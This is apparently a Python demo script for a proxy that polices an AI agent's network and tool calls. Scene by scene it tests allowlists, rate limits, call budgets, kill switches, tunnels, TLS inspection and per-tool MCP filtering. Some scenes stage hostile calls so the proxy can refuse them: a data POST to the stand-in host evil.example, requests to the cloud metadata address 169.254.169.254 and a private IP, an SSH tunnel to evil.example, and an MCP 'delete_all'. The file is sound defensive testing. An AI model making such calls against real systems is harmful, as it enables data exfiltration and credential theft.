"""What the agent does, scene by scene, and what the booth should make of it.

Each scene prints its rows and returns what went differently, empty where all went well.
"""

import contextlib
import http.client
import json
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from proxy.demo.agent import Agent, Answer
from proxy.demo.screen import Screen
from proxy.demo.tool_server import ToolServer

_LIMIT, _AT_ONCE = 12, 20  # config/demo.yaml gives a run 12 tool calls


@dataclass(frozen=True)
class Stage:
    """Where a scene plays: the tools, an operator's command line, agents by run id, and the CA that
    they may trust."""

    tools: ToolServer
    toolbooth: Callable[..., str]
    agent: Callable[[str], Agent]
    ca_file: Path  # what `toolbooth ca export` wrote

    def url(self, tool: str, path: str = "/") -> str:
        """A tool's address."""
        return f"http://{tool}.localhost:{self.tools.port}{path}"


def _check(answer: Answer, status: int, code: str = "") -> str:
    if (answer.status, answer.code) == (status, code):
        return ""
    return f"expected {status} {code}, got {answer.status} {answer.code}: {answer.detail}"


def _ms(answer: Answer) -> str:
    return f"{answer.took_ms:.0f} ms"


def allowed_and_refused(stage: Stage, screen: Screen) -> list[str]:
    """The allowlist and the address guard."""
    agent = stage.agent("run-1")
    yes = agent.call(stage.url("search", "/v1/search?q=booth"))
    screen.row("GET search/v1/search", "yes", f"{yes.status} allowed", _ms(yes))
    path = agent.call(stage.url("search", "/v1/admin"))
    screen.row("GET search/v1/admin", "no", f"{path.status} {path.code}", "path not covered")
    vault = agent.call(stage.url("vault"))
    screen.row("GET vault", "no", f"{vault.status} {vault.code}", "not on allowlist")
    post = agent.call("http://evil.example/", b"data")
    screen.row("POST evil.example", "no", f"{post.status} {post.code}", "unknown host")
    metadata = agent.call("http://169.254.169.254/latest/meta-data/")
    screen.row("GET 169.254.169.254", "no", f"{metadata.status} {metadata.code}", "cloud metadata")
    private = agent.call("http://10.0.0.7/")
    screen.row("GET 10.0.0.7", "no", f"{private.status} {private.code}", "private address")
    return [
        _check(yes, 200), _check(path, 403, "tool_unknown"), _check(post, 403, "tool_unknown"),
        _check(vault, 403, "tool_not_allowed"), _check(metadata, 403, "address_denied"),
        _check(private, 403, "address_denied"),
    ]  # fmt: skip


def slow_and_flaky(stage: Stage, screen: Screen) -> list[str]:
    """Timeouts, retries and rate limits."""
    agent = stage.agent("run-2")
    slow = agent.call(stage.url("report"))
    screen.row("GET report (takes 1.5 s)", "slow", f"{slow.status} {slow.code} after 300 ms",
               _ms(slow))  # fmt: skip
    flaky = agent.call(stage.url("flaky"))
    attempts = flaky.headers.get("Toolbooth-Attempts", "?")
    screen.row("GET flaky (503 at first)", "yes", f"{flaky.status} at attempt {attempts}",
               _ms(flaky))  # fmt: skip
    rated = [agent.call(stage.url("quota")) for _ in range(3)]
    last = rated[-1]
    wait = last.headers.get("Retry-After", "?")
    screen.row("GET quota (2 per 10 s), 3rd", "no", f"{last.status} {last.code}",
               f"come back in {wait} s")  # fmt: skip
    crm = agent.call(stage.url("crm", "/customers/7?api_key=sk-demo-51H8xkq0zT3bLw9"))
    screen.row("GET crm (it tells secrets)", "yes", f"{crm.status} allowed", "record below")
    return [
        _check(slow, 504, "timeout"), _check(flaky, 200), _check(last, 429, "rate_limited"),
        "" if attempts == "2" else f"flaky took {attempts} attempts", _check(crm, 200),
    ]  # fmt: skip


def budget(stage: Stage, screen: Screen) -> list[str]:
    """Twenty calls at once against a budget of twelve."""
    before = stage.tools.hits("search")
    url = stage.url("search", "/v1/search")
    answers = stage.agent("run-3").call_at_once([url] * _AT_ONCE)
    reached = stage.tools.hits("search") - before
    codes = Counter(answer.code or "allowed" for answer in answers)
    refused = codes["max_tool_calls"]
    screen.row(f"GET search, {_AT_ONCE} at once", "no", f"403 max_tool_calls x {refused}",
               f"budget: {_LIMIT} calls")  # fmt: skip
    screen.bar(reached, _AT_ONCE, f"{reached} reached the tool")
    is_exact = reached == _LIMIT and refused == _AT_ONCE - _LIMIT
    return ["" if is_exact else f"{reached} reached the tool, {dict(codes)}"]


def switches(stage: Stage, screen: Screen) -> list[str]:
    """An operator switches off writes, then a tool with a stream open."""
    agent = stage.agent("run-4")
    stage.toolbooth("kill", "--writes", "--reason", "change freeze")
    write = agent.call(stage.url("notes"), b"{}")
    stage.toolbooth("revive", "--writes")
    screen.row("$ toolbooth kill --writes", "yes", "writes are off", "change freeze")
    screen.row("POST notes", "no", f"{write.status} {write.code}", _ms(write))
    stream = agent.stream(stage.url("feed"))
    stream.read(16)
    stage.toolbooth("kill", "feed.watch", "--reason", "it leaks")
    killed = time.perf_counter()
    with contextlib.suppress(OSError, http.client.HTTPException):
        while stream.read1(65536):
            pass
    took_ms = (time.perf_counter() - killed) * 1000
    stream.close()
    screen.row("$ toolbooth kill feed.watch", "yes", "its open stream ended", f"{took_ms:.0f} ms")
    again = agent.call(stage.url("feed"))
    screen.row("GET feed", "no", f"{again.status} {again.code}", _ms(again))
    return [
        _check(write, 403, "writes_disabled"), _check(again, 403, "tool_disabled"),
        "" if took_ms < 1000 else f"the stream lived on for {took_ms:.0f} ms",
    ]  # fmt: skip


def tunnels(stage: Stage, screen: Screen) -> list[str]:
    """CONNECT, as HTTPS_PROXY makes clients do."""
    agent = stage.agent("run-5")
    sent = b"\x00opaque bytes"
    opened, echoed = agent.tunnel("files.localhost", stage.tools.echo_port, sent)
    screen.row("CONNECT files", "yes", f"{opened} tunnel, {len(echoed)} bytes back", "host allowed")
    refused, _ = agent.tunnel("evil.example", 22, sent)
    screen.row("CONNECT evil.example:22", "no", refused, "in the status line")
    return [
        "" if (opened, echoed) == ("200", sent) else f"tunnel: {opened} {echoed!r}",
        "" if refused == "403 tool_unknown" else f"refused tunnel: {refused}",
    ]


def seen_through(stage: Stage, screen: Screen) -> list[str]:
    """HTTPS whose tunnel is opened: methods are enforced inside."""
    agent = stage.agent("run-6")
    agent.trust(stage.ca_file)
    inbox = f"https://mail.localhost:{stage.tools.tls_port}/inbox"
    read = agent.call(inbox)
    screen.row("GET https://mail/inbox", "yes", f"{read.status} allowed, inside its TLS", _ms(read))
    delete = agent.call(inbox, method="DELETE")
    screen.row("DELETE https://mail/inbox", "no", f"{delete.status} {delete.code}",
               "method not covered")  # fmt: skip
    return [_check(read, 200), _check(delete, 403, "tool_unknown")]


def keys_and_tools(stage: Stage, screen: Screen) -> list[str]:
    """A key the agent never sees, and an MCP server judged tool by tool."""
    agent = stage.agent("run-7")
    asked = agent.through_gateway("/tools/llm/v1/chat/completions", b'{"messages": []}')
    used = json.loads(stage.toolbooth("runs", "show", "run-7", "--json"))["used"]
    tokens = used["tokens"]
    screen.row("POST /tools/llm/ (no key)", "yes", f"{asked.status} the booth added the key",
               f"{tokens:,} tokens")  # fmt: skip
    found = agent.call(stage.url("docs", "/mcp"), _call_of("search"))
    screen.row("MCP docs.search", "yes", f"{found.status} allowed", _ms(found))
    before = stage.tools.hits("docs")
    wiped = agent.call(stage.url("docs", "/mcp"), _call_of("delete_all"))
    is_told = json.loads(wiped.body)["result"]["isError"] and stage.tools.hits("docs") == before
    screen.row("MCP docs.delete_all", "no", f"isError {wiped.code}", "told to the model")
    return [
        _check(asked, 200), _check(found, 200), _check(wiped, 200, "tool_not_allowed"),
        "" if is_told else "the MCP server was reached",
        "" if (used["tokens"], used["steps"]) == (1020, 1) else f"the model used {used}",
    ]  # fmt: skip


def _call_of(tool: str) -> bytes:
    """A JSON-RPC message that calls a tool."""
    message = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool}}
    return json.dumps(message).encode()


SCENES: tuple[Callable[[Stage, Screen], list[str]], ...] = (
    allowed_and_refused,
    slow_and_flaky,
    budget,
    switches,
    tunnels,
    seen_through,
    keys_and_tools,
)
